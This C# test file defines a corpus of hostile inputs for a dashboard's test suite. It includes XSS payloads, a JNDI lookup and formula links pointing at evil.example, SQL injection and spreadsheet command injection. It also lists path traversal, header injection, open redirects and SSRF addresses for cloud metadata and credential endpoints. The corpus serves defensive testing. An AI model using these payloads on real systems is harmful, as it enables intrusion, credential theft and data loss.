using System.Globalization;
using System.Text;

namespace Dashboard.Tests.BadInput;

/// <summary>What a person, a link or an endpoint that calls itself AWS may send, by what it attacks.</summary>
internal static class Corpus
{
    /// <summary>What each script of the corpus would set on <c>window</c>.</summary>
    public const string Canary = "__ran";

    /// <summary>A class, and its members; the first stands for the others where there is no time for all.</summary>
    public static readonly IReadOnlyList<(string Name, string[] Texts)> Classes =
    [
        ("markup", [
            $"\"><img src=x onerror=\"window.{Canary}=1\">", $"<script>window.{Canary}=1</script>", $"</title></textarea></style></script><script>{Canary}=1</script>",
            $"<svg/onload={Canary}=1>", $"<svg><animate onbegin={Canary}=1 attributeName=x dur=1s>", $"<iframe srcdoc=\"<script>parent.{Canary}=1</script>\">",
            $"<details open ontoggle={Canary}=1>", "<!--><form action=https://evil.example><input name=q>", $"' onfocus={Canary}=1 autofocus='", "<base href=//evil.example>", "&lt;b&gt;&#x3c;script&#x3e;", "<math><a xlink:href=javascript:1>x"]),
        ("script addresses", [$"javascript:{Canary}=1", $"JaVa\tScRiPt:{Canary}=1", $"data:text/html,<script>opener.{Canary}=1</script>", "vbscript:x", "\u0001javascript:1"]),
        ("templates", ["{{7*7}}${7*7}#{7*7}@(7*7)%{7*7}", "${jndi:ldap://evil.example/a}", "{0} {Action} %s %n", "' OR 1=1; DROP TABLE audit;--", "\\\" UNION SELECT 1"]),
        ("terminal", ["\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007", "\u001b[2J\u001b[31mred", "\u001b]52;c;ZXZpbA==\u0007", "\u001b]0;title\u0007", "\u009b31m"]),
        ("line ends", ["a\r\nSet-Cookie: evil=1\r\n\r\n<b>", "\n", "\r", "a\u2028b\u2029c\u0085d", "a\nINFO forged line"]),
        ("NUL", ["a\0b", "\0"]),
        ("halves", ["\ud800", "a\udc00b", "\ud83d", "\ufffe\uffff\ufffd"]),
        ("bidi", ["\u202egpj.exe\u202c", "\u2066\u2067\u2068\u2069", "\u200b\u200e\u200f\u2060\ufeff", "\u0430pple", "Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351"]),
        ("deep JSON", [new string('[', 3000) + new string(']', 3000), string.Concat(Enumerable.Repeat("{\"a\":", 900)) + "1", "{\"a\":1,\"a\":2}", "{ $.a[99999999999] = * }"]),
        ("expressions", ["/(a+)+$/", "/(a|a)*b{1,1000}/", "/(?:a{1000}){1000}/", "/[/", "/(?<x>a)\\k<x>/", "/\\p{L}{0,99999}/", "/((((((((((a*)*)*)*)*)*)*)*)*)*)*/", "fields @message | parse @message /(x+x+)+y/", "level>=", "a:b:c:>=<\"", "\"unclosed", "- - -"]),
        ("formulas", ["=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", "\u200b=HYPERLINK(\"https://evil.example\")"]),
        ("foreign names", ["arn:aws:ecs:eu-west-1:999999999999:service/shop/checkout", "arn:aws:iam::999999999999:role/admin", "production/shop/payments", "production:/ecs/shop/payments", "arn:aws:ecs:*:*:*"]),
        ("wildcards", ["*", "*/*/*", "%", "_%", "?", "**/**", "[a-z]*", "-", ".", ",", ";", "|", "~"]),
        ("paths", ["../../../../etc/passwd", "..\\..\\web.config", "....//....//etc/passwd", "/etc/passwd\0.csv", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2f", "..;/admin", "con", "a/b/c/d/e"]),
        ("redirects", ["//evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "https:///evil.example", "/%09/evil.example", "/\u2028/evil.example", "/.//evil.example", "//evil.example/%2f..", "/%0d%0aLocation:%20https://evil.example", "/\u00e9?\u4e16=\u202e", "/audit\ud800", "/a\u007fb", "http://localhost@evil.example", "//\u3002evil\u3002example"]),
        ("hosts", ["http://169.254.169.254/latest/meta-data/", .. Hosts().Skip(1)]),
        ("instants", ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00", "9999-12-31", "9999-12-31T23:59", "1969-12-31T23:59:59Z", "2026-02-30T00:00:00Z", "253402300799999.0123456789abcdef.production:/ecs/shop/checkout:s", "0.0123456789abcdef.production:/ecs/shop/checkout:s", "1e999d"]),
        ("numbers", ["-1", "99999999999999999999", "9223372036854775807", "-9223372036854775808", "NaN", "1e400", "0x10", "\u0661\u0662", "00000000-0000-0000-0000-000000000000", "true", "null", "undefined"]),
        ("long", [new string('x', 6_500), string.Concat(Enumerable.Repeat("<i>", 700)), string.Concat(Enumerable.Repeat("a b ", 1_500)), new string('\u202e', 700)]),
        ("empty", ["", " ", "\u00a0", "\u3000"]),
    ];

    public static IEnumerable<string> All => Classes.SelectMany(one => one.Texts);

    public static string[] Of(string name) => Classes.Single(one => one.Name == name).Texts;

    public static IEnumerable<string> OneOfEach => Classes.Select(one => one.Texts[0]);

    /// <summary>Queries that no browser makes of a form.</summary>
    public static readonly string[] RawQueries = ["%", "%zz=%", "q=%ff%fe", "q=%C0%AE%C0%AE%2F", "q=%00", "q=%ED%A0%80", "&&&==&", "[]=1&q[]=2", "q=1&q=2&q=3", "q", "=", "<script>=1", "__proto__=1", "%3Cscript%3E=1"];

    /// <summary>Private places in every spelling that something takes for an address; the first as most would write it.</summary>
    public static string[] Hosts() =>
    [
        "http://169.254.169.254/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://169.254.43518/", "http://[::ffff:169.254.169.254]/", "http://[::ffff:a9fe:a9fe]/", "http://[64:ff9b::a9fe:a9fe]/",
        "http://169.254.169.254./", "http://127.1/", "http://0/", "http://0177.0.0.1/", "http://[::1]/", "http://[::]/", "http://localhost./", "http://user@127.0.0.1/", "http://hooks.slack.com@127.0.0.1/", "http://127.0.0.1.nip.io/", "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/", "http://127\u30020\u30020\u30021/", "http://h\u043eoks.slack.com/", "http://hooks_slack.com/", "gopher://127.0.0.1:25/", "http://169.254.170.2/v2/credentials",
    ];

    /// <summary>Percent-encoded as UTF-8; half of a surrogate pair as the three bytes that a careless encoder makes of it.</summary>
    public static string Encode(string text)
    {
        var encoded = new StringBuilder(text.Length * 3);
        for (var at = 0; at < text.Length; at++)
        {
            var isPair = char.IsHighSurrogate(text[at]) && at + 1 < text.Length && char.IsLowSurrogate(text[at + 1]);
            if (char.IsSurrogate(text[at]) && !isPair)
                encoded.Append(CultureInfo.InvariantCulture, $"%{0xE0 | text[at] >> 12:X2}%{0x80 | text[at] >> 6 & 0x3F:X2}%{0x80 | text[at] & 0x3F:X2}");
            else
                encoded.Append(Uri.EscapeDataString(text.AsSpan(at, isPair ? 2 : 1)));
            at += isPair ? 1 : 0;
        }

        return encoded.ToString();
    }

    /// <summary>For the message of a failed test.</summary>
    public static string Shown(string text) => text.Length <= 120 ? text : $"{text[..100]}… ({text.Length:N0} characters)";
}
